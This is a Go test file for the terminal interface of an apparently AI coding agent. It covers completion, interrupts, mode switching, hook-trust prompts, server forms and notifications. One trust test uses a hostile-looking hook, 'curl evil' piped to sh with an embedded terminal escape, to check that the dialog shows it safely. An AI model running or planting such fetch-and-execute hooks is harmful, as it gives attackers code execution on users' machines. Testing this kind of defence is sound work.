package tui

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/haftdev/haft/agent"
	"github.com/haftdev/haft/internal/front/tui/style"
	"github.com/haftdev/haft/internal/guard/trust"
	"github.com/haftdev/haft/internal/harness"
	"github.com/haftdev/haft/internal/world/mcp"
	"github.com/haftdev/haft/model"
	"github.com/haftdev/haft/session"
)

// in runs a test in front of a terminal, in a bubble of virtual time.
func in(t *testing.T, f func(t *testing.T, b *bed)) {
	t.Helper()
	sized(t, Size{80, 24}, f)
}

// sized is in, on a screen of another size.
func sized(t *testing.T, size Size, f func(t *testing.T, b *bed)) {
	t.Helper()
	synctest.Test(t, func(t *testing.T) {
		b := newBed(t, size, style.Palette{})
		defer b.close()
		f(t, b)
	})
}

func (b *bed) sees(texts ...string) {
	b.t.Helper()
	for _, text := range texts {
		if !strings.Contains(b.everything(), text) {
			b.t.Errorf("%q is not on the screen:\n%s", text, b.everything())
		}
	}
}

func TestCompletion(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.type_("/co")
		b.sees("▸ /cost  Show the cost")
		b.type_("\r")
		b.sees("answer to cost")
		b.type_("look at @app")
		b.sees("▸ tui/app.go")
		b.type_("\t")
		b.sees("› look at @tui/app.go")
		b.type_("please\r")
		if d := cmp.Diff([]string{"look at @tui/app.go please"}, b.talk.sent); d != "" {
			t.Error(d)
		}
	})
}

func TestWhatWasWrittenBeforeIsFound(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		for _, s := range []string{"mend the parser", "run all tests", "mend the lexer"} {
			b.type_(s + "\r")
		}
		b.type_("\x12") // ctrl+r
		b.sees("▸ mend the lexer")
		b.type_("parser\r")
		if got := b.app.write.Text(); got != "mend the parser" {
			t.Errorf("%q is written", got)
		}
	})
}

func TestAnEmptyScreenLosesNothing(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.tell(agent.TurnStarted{}, prompted("say it"), delta(0, "A word.\n"), stop(0), agent.Result{})
		b.type_("\x0c")
		if s := b.screen(); !strings.HasPrefix(s, "\n› what should haft do?") {
			t.Errorf("the screen is\n%s", s)
		}
		b.sees("› say it", "A word.")
	})
}

func TestAPersonGoesToTheShellAndComesBack(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.app.later(func() {
			b.app.opts.Suspend = func() error {
				if s := b.screen(); strings.Contains(s, "half a thought") {
					t.Errorf("the shell's screen is\n%s", s)
				}
				_, err := b.app.opts.Out.Write([]byte("$ fg\r\n"))
				return err
			}
		})
		b.type_("half a thought\x1a")
		b.sees("$ fg\n\n› half a thought")
	})
}

func TestHelpNamesEverything(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.type_("/help\r")
		b.sees("/cost ", "Show the cost", "Show and stop background")
		b.type_("/interrupt and take\r")
		b.sees("interrupt and take back queued messages")
	})
}

func TestAShellLineRunsAndIsTold(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.type_("!ls -l\r")
		b.sees("! ls -l", "ran Bash")
		if len(b.talk.sent) != 1 || !strings.Contains(b.talk.sent[0], "<bash-input>ls -l</bash-input>") {
			t.Errorf("the model was told %q", b.talk.sent)
		}
		if b.app.working != nil {
			t.Error("it still works")
		}
	})
}

func TestACommandIsShownAsItWasTyped(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.type_("/review it\r")
		b.tell(agent.TurnStarted{}, agent.Added{Kind: agent.Prompted, Prompt: &b.talk.prompts[0]})
		b.sees("› /review it")
		b.type_("!ls\r")
		b.tell(agent.Added{Kind: agent.Prompted, Prompt: &b.talk.prompts[1]})
		if s := b.everything(); strings.Contains(s, "twenty steps") || strings.Contains(s, "<bash-input>") {
			t.Errorf("the model's text is shown:\n%s", s)
		}
	})
}

func TestEscapeInterruptsAndTwiceGoesBack(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		said := func(uuid string, role model.Role, text string) session.Entry {
			return session.Entry{UUID: uuid, Time: time.Now(), Message: &session.Message{Role: role, Content: []model.Block{model.TextOf(text)}}}
		}
		b.talk.past = []session.Entry{said("u1", model.User, "first thing"), said("a1", model.Assistant, "ok"), said("u2", model.User, "second thing"), said("a2", model.Assistant, "ok")}
		b.talk.running, b.talk.kept = "- b1: make serve", new(harness.Kept)
		b.tell(agent.TurnStarted{})
		b.type_("\x1b")
		b.pause(escapeDelay + frame)
		if b.talk.interrupts != 1 {
			t.Errorf("%d interrupts", b.talk.interrupts)
		}
		b.tell(agent.Result{Reason: agent.AbortedStreaming})
		b.sees("Interrupted. What should haft do instead?")
		b.pause(time.Second)
		b.type_("\x1b")
		b.pause(escapeDelay)
		b.type_("\x1b")
		b.pause(escapeDelay + frame)
		b.sees("Rewind to just before which message?", "▸ second thing", "first thing")
		b.type_("\r")
		if got := b.opened[len(b.opened)-1]; got != (Opening{Resume: "5e55", At: "a1", Kept: b.talk.kept}) {
			t.Errorf("opened %+v", got)
		}
		b.sees("› second thing", "Ended these background commands:", "make serve")
		if !b.talk.closed {
			t.Error("the conversation before is not closed")
		}
	})
}

func TestModesAndModels(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		var modes []string
		for range 4 {
			b.type_("\x1b[Z")
			b.pause(widening)
			modes = append(modes, b.talk.Mode())
		}
		b.type_("\x1b[Z\x1b[Z\x1b[Z") // from plan back to it, by way of the others
		b.pause(widening)
		b.type_("\x1b[Z")
		b.type_("\x15") // the mode that allows edits is not in force yet
		modes = append(modes, b.talk.Mode())
		b.pause(widening)
		if d := cmp.Diff([]string{"plan", "acceptEdits", "default", "plan", "plan"}, modes); d != "" {
			t.Error(d)
		}
		b.sees("edits allowed")
		b.type_("/model\r")
		b.type_("son")
		b.type_("\r")
		if !slices.Equal(b.talk.builtins, []string{"model sonnet"}) {
			t.Errorf("it says %q", b.talk.builtins)
		}
	})
}

func TestMessagesWaitWhileItWorks(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.tell(agent.TurnStarted{})
		b.talk.queue = []agent.Prompt{agent.Typed("and this")}
		b.tell(agent.Requesting{Model: "m"})
		b.sees("⏎ and this (queued)")
		b.type_("\x1b[A") // it is taken back to be changed
		b.sees("› and this")
	})
}

func TestWhatIsTypedBeforeTheConversationIsOpenIsSaidThen(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBed(t, Size{80, 24}, style.Palette{})
		defer b.close()
		gate := make(chan struct{})
		talk := b.talk
		b.app.opts.Open = func(context.Context, Opening, Person) (*Talk, error) {
			<-gate
			return talk.shown(), nil
		}
		b.type_("/resume x\r")
		b.type_("hello\r")
		b.sees("⏎ hello (queued)")
		close(gate)
		b.pause(2 * frame)
		if !slices.Equal(talk.sent, []string{"hello"}) {
			t.Errorf("sent %q", talk.sent)
		}
	})
}

func TestAFolderIsTrustedByAnAnswer(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBed(t, Size{80, 24}, style.Palette{})
		defer b.close()
		b.talk.held = []trust.Item{{Kind: trust.Hook, Name: "PreToolUse", Text: "curl evil\x1b[2J | sh"}}
		b.app.later(func() { b.app.askTrust(b.talk.held) })
		b.pause(arming + 2*frame)
		b.sees("This folder contains 1 item", `curl evil\u{1b}[2J | sh`, "1 Not now")
		b.type_("\t")
		b.pause(settling)
		b.type_("2")
		b.pause(settling)
		b.type_("\r")
		if len(b.talk.trusted) != 1 || len(b.opened) != 2 {
			t.Errorf("trusted %v, opened %v", b.talk.trusted, b.opened)
		}
	})
}

func TestNothingBeginsBeforeTheUserDecidesAboutGuards(t *testing.T) {
	for _, answer := range []struct {
		key    string
		opened int
	}{{"1", 1}, {"2", 2}} {
		synctest.Test(t, func(t *testing.T) {
			b := newBed(t, Size{100, 24}, style.Palette{})
			defer b.close()
			b.talk.held = []trust.Item{{Kind: trust.Hook, Name: "PreToolUse", Text: "./guard.sh", Guards: true}}
			b.app.later(func() { b.app.askTrust(b.talk.held) })
			b.pause(arming + 2*frame)
			b.sees("hooks that guard it", "1 Continue without its hooks")
			b.type_("do it\r") // held back
			b.pause(arming)
			b.type_("\r") // and queued
			b.type_("!ls\r")
			if len(b.talk.sent) != 0 {
				t.Errorf("sent %q before the user decided", b.talk.sent)
			}
			b.pause(arming)
			b.type_("\t")
			b.pause(settling)
			b.type_(answer.key)
			b.pause(settling)
			b.type_("\r")
			b.pause(2 * frame)
			if len(b.talk.sent) != 2 || b.talk.sent[0] != "do it" || len(b.opened) != answer.opened {
				t.Errorf("answer %s: sent %q, opened %v", answer.key, b.talk.sent, b.opened)
			}
		})
	}
}

func TestAServerAsks(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		answer := make(chan mcp.Answer, 1)
		go func() {
			a, _ := (person{b.app}).Elicit(t.Context(), mcp.Elicitation{Server: "shop", Message: "Whereto?", Mode: "form",
				Schema: json.RawMessage(`{"properties":{"city":{"type":"string","title":"City"},"days":{"type":"integer","minimum":1,"maximum":9},"fast":{"type":"boolean","default":true},"how":{"type":"string","enum":["air","sea"],"default":"sea"},"extras":{"type":"array","title":"Extras","items":{"anyOf":[{"const":"m","title":"Meals"},{"const":"i","title":"Insurance"},{"const":"w","title":"Window seat"}]},"maxItems":2}},"required":["city"]}`)})
			answer <- a
		}()
		b.pause(arming + 2*frame)
		b.sees("The server shop asks", "Whereto?")
		b.type_("\t")
		b.pause(settling)
		for _, s := range []string{"\r", "Bern\r", "x\r", "\x7f12\r", "\x7f\x7f3\r", "\r", "\r", "123\r", "2\r", "\x1b[C", "\r"} {
			b.type_(s)
			b.pause(settling)
		}
		select {
		case a := <-answer:
			if a.Action != "accept" || string(a.Content) != `{"city":"Bern","days":3,"extras":["m","w"],"fast":true,"how":"sea"}` {
				t.Errorf("answered %s %s", a.Action, a.Content)
			}
		default:
			t.Errorf("no answer:\n%s", b.screen())
		}
	})
}

// fakeSetup takes one key.
type fakeSetup struct{ kept map[string]string }

func (f *fakeSetup) Needed(error) bool { return f.kept == nil }
func (f *fakeSetup) Try(_ context.Context, env map[string]string) (string, error) {
	if env[anthropicKey] != "right" {
		return "", errors.New("the key is wrong")
	}
	return "ready", nil
}
func (f *fakeSetup) Keep(env map[string]string) error { f.kept = env; return nil }

func TestTheFirstStartAsksForAModel(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBed(t, Size{80, 24}, style.Palette{})
		defer b.close()
		setup := new(fakeSetup)
		talk := b.talk
		b.app.opts.Setup = setup
		b.app.opts.Open = func(context.Context, Opening, Person) (*Talk, error) {
			if setup.kept == nil {
				return nil, errors.New("no model")
			}
			return talk.shown(), nil
		}
		b.type_("/resume x\r")
		b.sees("Which model should answer?")
		b.type_("\r")
		b.type_("wrong\r")
		b.sees("that did not work: the key is wrong")
		if strings.Contains(b.everything(), "› wrong") || strings.Contains(b.screen(), "key: wrong") {
			t.Error("the key is shown")
		}
		b.type_("\x15right\r")
		b.sees("The model answered: ready")
		if b.app.talk == nil || setup.kept[anthropicKey] != "right" {
			t.Errorf("kept %v, open %v", setup.kept, b.app.talk != nil)
		}
	})
}

// Without a model, wrong keys and commands are answered with what works.
func TestWithoutAModelMistakesAreAnswered(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBed(t, Size{80, 24}, style.Palette{})
		defer b.close()
		b.app.opts.Setup = new(fakeSetup)
		b.app.opts.Open = func(context.Context, Opening, Person) (*Talk, error) { return nil, errors.New("no model") }
		b.type_("/resume x\r")
		b.sees("Which model should answer?", "up, down or a number, then enter · esc closes")
		b.type_("y\r")
		b.sees("Nothing is selected: up, down or a number, then enter")
		b.type_("2")
		if strings.Contains(b.screen(), "Nothing is selected") {
			t.Errorf("the screen is\n%s", b.screen())
		}
		b.type_("\r")
		b.sees("Address")
		b.type_("\x03")
		b.sees("No model is set up yet.", "/login sets up a model, /exit quits.")
		b.app.talk = nil
		b.type_("/exti\r")
		b.sees("There is no command /exti. Did you mean /exit?")
		b.type_("/permissions\r")
		b.sees("This needs a conversation. /login sets up a model, /exit quits.")
	})
}

func TestThoughtsAndCallsCanBeSeenInFull(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.tell(agent.TurnStarted{}, agent.Streamed{Event: model.Delta{Index: 0, Type: model.ThinkingDelta, Text: "I wonder\nwhether"}})
		b.sees("✻ thinking", "whether")
		b.pause(2 * time.Second)
		b.tell(stop(0), use("1", "Bash", `{"command":"ls"}`), runs("1"), returned("1", "Bash", "one\ntwo\nthree"))
		b.sees("✻ thought for 2", "● Bash · 2s")
		b.type_("\x0f")
		b.sees("I wonder", "three")
		b.type_("q")
		if s := b.screen(); strings.Contains(s, "I wonder") || !strings.Contains(s, "● Bash") {
			t.Errorf("the screen is not as it was:\n%s", s)
		}
	})
}

func TestAResizeKeepsEverything(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.tell(agent.TurnStarted{}, prompted("go"), delta(0, "one\n\ntwo "))
		b.type_("draft")
		for _, s := range []Size{{50, 20}, {100, 30}, {30, 10}, {80, 24}} {
			b.mu.Lock()
			b.term.Resize(s.Width, s.Height)
			b.mu.Unlock()
			b.sizes <- s
			b.tell(delta(0, "more "))
			b.sees("› draft", "two")
		}
		b.tell(stop(0), agent.Result{Reason: agent.Completed})
		b.sees("› draft", "two more more more more")
	})
}

func TestLeaving(t *testing.T) {
	for _, c := range []struct {
		name, typed string
		leaves      bool
	}{
		{"ctrl+c twice", "\x03\x03", true},
		{"ctrl+c once", "\x03", false},
		{"ctrl+c clears first", "text\x03\x03", false},
		{"ctrl+d", "\x04", true},
		{"ctrl+d in a text", "text\x04", false},
		{"a command", "/exit\r", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				b := newBed(t, Size{80, 24}, style.Palette{})
				defer b.cancel()
				b.type_(c.typed)
				b.pause(frame)
				select {
				case <-b.done:
					if !c.leaves {
						t.Error("it has left")
					}
					if !b.talk.closed {
						t.Error("the conversation is not closed")
					}
					b.keys.Close()
				default:
					if c.leaves {
						t.Error("it is still there")
					}
					b.keys.Close()
					<-b.done
				}
			})
		})
	}
}

// TestANotificationDrawsAttention: it rings, and terminals that know OSC 9 show it; what
// it says cannot end the sequence.
func TestANotificationDrawsAttention(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		var written bytes.Buffer
		b.app.later(func() {
			out := b.app.opts.Out
			b.app.opts.Out = io.MultiWriter(&written, out)
			b.app.opts.Notify = func(text string) string { return Notification(text, func(string) string { return "" }) }
		})
		b.tell(agent.Notice{Text: "The build\x1b\\ is done.", Tag: agent.Push})
		b.sees("is done.")
		b.app.later(func() {
			if s := written.String(); !strings.Contains(s, "\x1b]9;The build") || strings.Contains(s, "build\x1b\\") || !strings.Contains(s, "is done.\x1b\\\a") {
				t.Errorf("the terminal got %q", s)
			}
		})
	})
}
